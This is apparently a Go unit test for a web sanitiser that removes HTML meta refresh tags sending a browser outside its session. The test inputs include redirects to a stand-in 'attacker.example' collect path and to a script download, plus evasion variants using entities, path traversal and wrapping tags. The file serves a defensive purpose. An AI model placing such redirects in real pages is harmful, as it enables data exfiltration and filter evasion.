package web

import (
	"strings"
	"testing"
)

// TestDropRefreshes: a refresh that would take the browser to a sink, or
// anywhere out of the session, is removed however it is written; one to
// a page or resource of the session stays, and a page without a refresh
// is served as it was written.
func TestDropRefreshes(t *testing.T) {
	s := &Session{id: "ID", pages: map[string]served{"/": {}, "/about": {}}, res: map[string]served{"/r/1.html": {}}}
	s.setup.Site = &Site{Forms: []Form{{Name: "send", Path: "/send"}}}
	for _, tc := range []struct {
		name, page string
		kept       bool
	}{
		{"to the attacker's host", `<meta http-equiv="refresh" content="0; url=/s/ID/x/attacker.example/collect?d=1">`, false},
		{"upper case, quoted", `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='/s/ID/x/attacker.example/c'">`, false},
		{"a comma, no space", `<meta http-equiv=refresh content="0,url=/s/ID/download/setup.sh">`, false},
		{"an entity in the value", `<meta http-equiv="&#114;efresh" content="0;url=/s/ID/send?to=x">`, false},
		{"to a form", `<meta http-equiv="refresh" content="0; url=/s/ID/send">`, false},
		{"out through ..", `<meta http-equiv="refresh" content="0; url=/s/ID/r/../x/attacker.example/c">`, false},
		{"to another host", `<meta http-equiv="refresh" content="0; url=http://localhost:1/s/ID/about">`, false},
		{"to another session", `<meta http-equiv="refresh" content="0; url=/s/OTHER/about">`, false},
		{"reloading itself", `<meta http-equiv="refresh" content="5">`, false},
		{"behind a noscript", `<noscript><meta http-equiv="refresh" content="0;url=/s/ID/x/a/c"></noscript>`, false},
		{"in an SVG's style", `<svg><style><meta http-equiv="refresh" content="0;url=/s/ID/x/a/c"></style></svg>`, false},
		{"a second content", `<meta http-equiv="refresh" content="0; url=/s/ID/x/a/c" content="0; url=/s/ID/about">`, false},
		{"to a page of the session", `<meta http-equiv="refresh" content="0; url=/s/ID/about">`, true},
		{"to a resource (web_redirect's)", `<meta http-equiv="refresh" content="0; url=/s/ID/r/1.html">`, true},
	} {
		page := "<!DOCTYPE html><html><head>" + tc.page + "</head><body><p>Hello &amp; welcome</p></body></html>"
		got, err := s.dropRefreshes([]byte(page))
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if has := strings.Contains(strings.ToLower(string(got)), "http-equiv"); has != tc.kept {
			t.Errorf("%s: refresh kept %v, want %v:\n%s", tc.name, has, tc.kept, got)
		}
		if tc.kept && string(got) != page {
			t.Errorf("%s: a page with nothing to remove was written again:\n%s", tc.name, got)
		}
		if !strings.Contains(string(got), "<p>Hello &amp; welcome</p>") {
			t.Errorf("%s: the page's text changed:\n%s", tc.name, got)
		}
	}
	plain := []byte(`<p>Nothing to see, <a href="/s/ID/x/a/c">a link</a></p>`)
	if got, _ := s.dropRefreshes(plain); string(got) != string(plain) {
		t.Errorf("a page without a refresh was written again: %s", got)
	}
}
